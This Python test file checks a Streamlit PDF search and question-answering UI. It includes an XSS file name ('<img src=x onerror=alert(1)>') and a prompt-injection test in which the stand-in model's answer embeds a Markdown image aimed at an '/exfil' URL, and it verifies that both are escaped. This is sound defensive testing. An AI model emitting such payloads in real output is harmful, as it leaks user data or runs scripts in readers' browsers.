"""The web UI's flows with streamlit.testing.v1.AppTest: upload, search, ask and extract against the test VLM
server, and the error paths (no VLM configured, bad schema, broken PDF)."""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

from tests.conftest import BADPDF, PDFS, ROOT
from tests.vlm.chat_server import ChatServer, chat_server, ok

pytestmark = pytest.mark.corpus
UI = str(ROOT / "app" / "ui.py")


@pytest.fixture
def ui_env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    monkeypatch.setenv("PAGELENS_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("PAGELENS_ENCODER__ENABLED", "false")
    monkeypatch.setenv("PAGELENS_VLM__CAPTIONS", "false")
    monkeypatch.delenv("PAGELENS_VLM_URL", raising=False)
    st.cache_resource.clear()
    st.cache_data.clear()
    yield tmp_path
    st.cache_resource.clear()


def _app() -> AppTest:
    at = AppTest.from_file(UI, default_timeout=120)
    at.run()
    assert not at.exception, at.exception
    return at


def _goto(at: AppTest, page: str) -> AppTest:
    at.sidebar.radio[0].set_value(next(o for o in at.sidebar.radio[0].options if page in o)).run()
    assert not at.exception, at.exception
    return at


def _upload(at: AppTest, *paths: Path) -> AppTest:
    at.file_uploader[0].set_value([(p.name, p.read_bytes(), "application/pdf") for p in paths])
    _button(at, "Ingest").click().run()
    assert not at.exception, at.exception
    return at


def _button(at: AppTest, label: str) -> Any:
    return next(b for b in at.main.button if b.label == label)


def _radio(at: AppTest, label: str) -> Any:
    return next(r for r in at.main.radio if r.label == label)


def _images(at: AppTest) -> list[Any]:
    return list(at.main.get("image"))


def _text(at: AppTest) -> str:
    parts = [e.value for kind in ("markdown", "success", "error", "info", "warning", "caption")
             for e in getattr(at, kind)]
    return "\n".join(str(p) for p in parts)


def test_library_upload_list_and_errors(ui_env: Path) -> None:
    at = _upload(_app(), PDFS / "refcard-a4.pdf", BADPDF / "files/qpdf/c-empty.pdf")
    assert any("refcard-a4.pdf: ingested, 3 pages" in s.value for s in at.success)
    assert any("c-empty.pdf" in e.value and "no pages" in e.value for e in at.error), "errors in plain words"
    table = at.dataframe[0].value
    assert list(table["document"]) == ["refcard-a4.pdf"] and list(table["words"]) == ["text layer: 3"]
    delete = next(sb for sb in at.main.selectbox if sb.label == "Delete a document")
    delete.set_value(delete.options[1]).run()
    _button(at, "Delete").click().run()
    assert not at.exception
    assert "0 documents" in _text(at) and not at.dataframe


def test_search_shows_pages_with_highlights(ui_env: Path) -> None:
    at = _upload(_app(), PDFS / "refcard-a4.pdf")
    at = _goto(at, "Search")
    at.text_input[0].input("matrix inverse")
    _button(at, "Search").click().run()
    assert not at.exception
    assert len(_images(at)) == 3, "a thumbnail per page (the document has 3)"
    assert "**1. refcard-a4.pdf** · page" in _text(at) and "relevance" in _text(at), "ranked, with a relevance"
    assert "matrix" in _text(at).lower()
    at.button(key="open-0").click().run()
    assert not at.exception and len(_images(at)) == 4, "the page opened large"


def test_file_names_with_html_are_shown_as_text(ui_env: Path) -> None:
    """The hits grid is markdown with HTML allowed: a file name carrying markup must arrive escaped."""
    import pymupdf

    doc = pymupdf.open()
    doc.new_page(width=300, height=400).insert_text((20, 40), "hello hardening")
    at = _app()
    at.file_uploader[0].set_value([("<img src=x onerror=alert(1)>.pdf", doc.tobytes(), "application/pdf")])
    next(b for b in at.main.button if b.label == "Ingest").click().run()
    at = _goto(at, "Search")
    at.text_input[0].input("hello")
    next(b for b in at.main.button if b.label == "Search").click().run()
    assert not at.exception, at.exception
    shown = [m.value for m in at.markdown if "page 1" in m.value]
    assert shown and all("<img" not in v and "&lt;img" in v for v in shown), shown


def test_ask_and_extract_without_vlm_say_how_to_configure(ui_env: Path) -> None:
    at = _goto(_app(), "Ask")
    assert "PAGELENS_VLM_URL" in _text(at)
    at = _goto(at, "Extract")
    assert "PAGELENS_VLM_URL" in _text(at)


def _with_vlm(monkeypatch: pytest.MonkeyPatch) -> Iterator[ChatServer]:
    with chat_server() as srv:
        monkeypatch.setenv("PAGELENS_VLM_URL", srv.url)
        st.cache_resource.clear()
        yield srv


def _cite_buttons(at: AppTest) -> list[str]:
    return [b.key for b in at.main.button if b.key and b.key.startswith("cite-")]


def test_ask_is_a_chat_whose_citations_open_their_page_and_last(ui_env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for srv in _with_vlm(monkeypatch):
        at = _upload(_app(), PDFS / "refcard-a4.pdf")
        at = _goto(at, "Ask")
        srv.script = [ok(json.dumps({"found": True, "answer": "Use inv().", "evidence": [
            {"page": 1, "quote": "inverse", "bbox_2d": None}, {"page": 1, "quote": "moon cheese", "bbox_2d": None}]}))]
        at.chat_input[0].set_value("how do I invert a matrix").run()
        assert not at.exception, at.exception
        assert any("Use inv" in s.value for s in at.success), "its words are backed by verified evidence"
        text = _text(at)
        assert "**verified** · refcard-a4.pdf · page " in text and "**unverified** · refcard-a4.pdf" in text
        assert len(_cite_buttons(at)) == 2 and not _images(at)
        at.button(key=_cite_buttons(at)[0]).click().run()
        assert not at.exception and len(_images(at)) == 1, "the cited page, its box drawn"
        # a follow-up: rewritten with the history (the stand-in's rewrite), then answered
        srv.script = [ok(json.dumps({"standalone": "how do I transpose a matrix"})),
                      ok(json.dumps({"found": True, "answer": "Use t().",
                                     "evidence": [{"page": 1, "quote": "transpose", "bbox_2d": None}]}))]
        at.chat_input[0].set_value("and transpose it?").run()
        assert not at.exception, at.exception
        assert any("searched as: how do I transpose a matrix" in c.value for c in at.caption)
        assert [m.name for m in at.main.get("chat_message")] == ["user", "assistant", "user", "assistant"]
        assert "how do I invert a matrix" in json.dumps(srv.requests[1]["messages"]), "the history went along"
        # shown again from the catalog (a new session): the same two turns
        again = _goto(_app(), "Ask")
        picks = again.sidebar.radio[1]
        again = picks.set_value(picks.options[1]).run()
        assert not again.exception, again.exception
        assert len(again.main.get("chat_message")) == 4
        assert any("Use t" in s.value for s in [*again.success, *again.warning])


def test_extract_preset_correct_and_export(ui_env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for srv in _with_vlm(monkeypatch):
        at = _upload(_app(), PDFS / "refcard-a4.pdf")
        at = _goto(at, "Extract")
        _radio(at, "Schema").set_value("Build fields").run()
        srv.script = [ok(json.dumps({"invoice_number": {"value": "inverse", "page": 1, "bbox_2d": None},
                                     "total": {"value": 12.5, "page": 1, "bbox_2d": None}}))]
        at.multiselect[0].set_value([at.multiselect[0].options[0]]).run()
        _button(at, "Extract").click().run()
        assert not at.exception, at.exception
        assert "1 attempt(s)" in _text(at)
        assert len(at.main.get("download_button")) == 2, "JSON and CSV export"
        from app.service import Service

        ex_id = at.session_state["extraction"]
        catalog_only = Service()  # same data dir; only its SQL catalog is opened (safe beside the UI's)
        rows = {r["field"]: r for r in catalog_only.extraction_table(ex_id)}
        assert rows["invoice_number"]["status"] == "verified" and rows["total"]["status"] == "unverified"
        assert '"field": "total"' not in catalog_only.export_extraction(ex_id, "csv")
        assert catalog_only.export_extraction(ex_id, "csv").splitlines()[0].startswith("field,value,model_value")
        catalog_only.catalog.correct_extraction(ex_id, "total", 13.0)  # what the UI's editable table calls
        fixed = {r["field"]: r for r in catalog_only.extraction_table(ex_id)}["total"]
        assert fixed["value"] == 13.0 and fixed["model_value"] == 12.5 and fixed["corrected"]
        assert json.loads(catalog_only.export_extraction(ex_id, "json"))["corrections"] == {"total": 13.0}


def test_bad_schema_is_reported(ui_env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for _srv in _with_vlm(monkeypatch):
        at = _goto(_app(), "Extract")
        _radio(at, "Schema").set_value("Paste JSON Schema").run()
        at.text_area[0].input("{not json").run()
        assert any("not valid JSON" in e.value for e in at.error)



def _two_page_pdfs(tmp_path: Path) -> list[Path]:
    import pymupdf

    out = []
    for name in ("alpha.pdf", "beta.pdf"):
        doc = pymupdf.open()
        doc.new_page(width=300, height=400).insert_text((20, 40), f"quarterly hardening report {name}")
        doc.save(str(tmp_path / name))
        out.append(tmp_path / name)
    return out


def test_a_page_that_cannot_be_drawn_never_hides_the_other_hits(ui_env: Path) -> None:
    at = _upload(_app(), *_two_page_pdfs(ui_env))
    # one document's stored file is gone (a disk fault, a restore): its page cannot be drawn
    from app.service import Service

    svc = Service()
    doc = svc.get_document("beta.pdf")
    svc.files.path_of(doc.doc_id).unlink()
    svc.close()
    at = _goto(at, "Search")
    at.text_input[0].input("quarterly hardening")
    _button(at, "Search").click().run()
    assert not at.exception, at.exception
    assert len(_images(at)) == 1, "the other document's page is still shown"
    assert " alpha.pdf**" in _text(at) and " beta.pdf**" in _text(at), "both hits are listed"
    assert [w.value for w in at.warning if "cannot be shown" in w.value], "the missing page says why"


def test_a_pipeline_notice_is_shown_once_per_upload(ui_env: Path) -> None:
    at = _upload(_app(), *_two_page_pdfs(ui_env))
    notes = [c.value for c in at.caption if "not embedded" in c.value]
    assert len(notes) == 1, notes


def test_jobs_page_shows_progress_and_cancels(ui_env: Path) -> None:
    from app.service import Service

    at = _goto(_app(), "Jobs")
    assert "No jobs yet" in _text(at)
    svc = Service()  # as the API's runner would: one job running, one queued
    svc.catalog.add_job("a" * 32, "ingest", {"files": ["big_<b>.pdf"], "collection": None})
    svc.catalog.add_job("b" * 32, "ingest", {"files": ["next.pdf"], "collection": None})
    assert svc.catalog.claim_job("h:1") is not None
    svc.catalog.update_job("a" * 32, progress={"files_done": 0, "files_total": 1, "pages_done": 30,
                                               "pages_total": 120, "current": "big_<b>.pdf"})
    _button(at, "Refresh").click().run()
    bars = {b.proto.text: b.value for b in at.get("progress")}
    running = next(t for t in bars if "running" in t)
    assert bars[running] == 25 and "30/120 pages" in running and "big\\_<b>.pdf" in running
    cancels = [b for b in at.main.button if b.label == "Cancel"]
    assert len(cancels) == 2
    cancels[1].click().run()  # newest first: the second is the running one
    assert not at.exception, at.exception
    assert svc.get_job("a" * 32).cancel_requested and svc.get_job("a" * 32).state == "running"
    assert svc.get_job("b" * 32).state == "queued"
    assert any("stopping" in b.proto.text for b in at.get("progress"))
    svc.close()


def test_a_models_answer_is_text_and_green_only_when_its_values_are_verified(ui_env: Path,
                                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    """Prompt injection: an answer carrying a Markdown image must not make the browser fetch it; an answer whose
    number is not in its verified evidence is not shown as a success (issue 17, item 4)."""
    for srv in _with_vlm(monkeypatch):
        at = _goto(_upload(_app(), PDFS / "refcard-a4.pdf"), "Ask")
        srv.script = [ok(json.dumps({"found": True, "answer": "![x](http://127.0.0.1:9/exfil?total=1) see [here](http://x)",
                                     "evidence": [{"page": 1, "quote": "inverse", "bbox_2d": None}]}))]
        at.chat_input[0].set_value("how do I invert a matrix").run()
        shown = [s.value for s in at.success] + [w.value for w in at.warning]
        assert any("\\!\\[x\\]\\(http" in v for v in shown), shown  # inert text, not an image or a link
        assert not any("![x](" in v for v in shown)
        srv.script = [ok(json.dumps({"standalone": "the total"})),
                      ok(json.dumps({"found": True, "answer": "The total is 0",
                                     "evidence": [{"page": 1, "quote": "inverse", "bbox_2d": None}]}))]
        at.chat_input[0].set_value("and the total?").run()
        assert not [s.value for s in at.success if "total is 0" in s.value], "a 0 not in the evidence is not green"
        assert any("not in the verified evidence" in w.value for w in at.warning)


def test_a_process_spawned_under_the_ui_does_not_run_it_again(tmp_path: Path) -> None:
    """Streamlit runs ui.py as ``__main__``, so page readers and renderers spawned under it import it again; they
    must not draw the UI (or open the data dir): that was the ~100 "missing ScriptRunContext" warnings an upload
    logged (issue 17, item 3)."""
    import subprocess
    import sys

    code = ("import multiprocessing, runpy; multiprocessing.current_process().name = 'pagelens-reader'; "
            f"runpy.run_path({UI!r}, run_name='__mp_main__')")
    env = {**os.environ, "PAGELENS_DATA_DIR": str(tmp_path / "data"), "PYTHONPATH": str(ROOT)}
    r = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120, env=env)
    assert r.returncode == 0, r.stderr[-2000:]
    assert "ScriptRunContext" not in r.stderr and not (tmp_path / "data").exists(), r.stderr[-2000:]
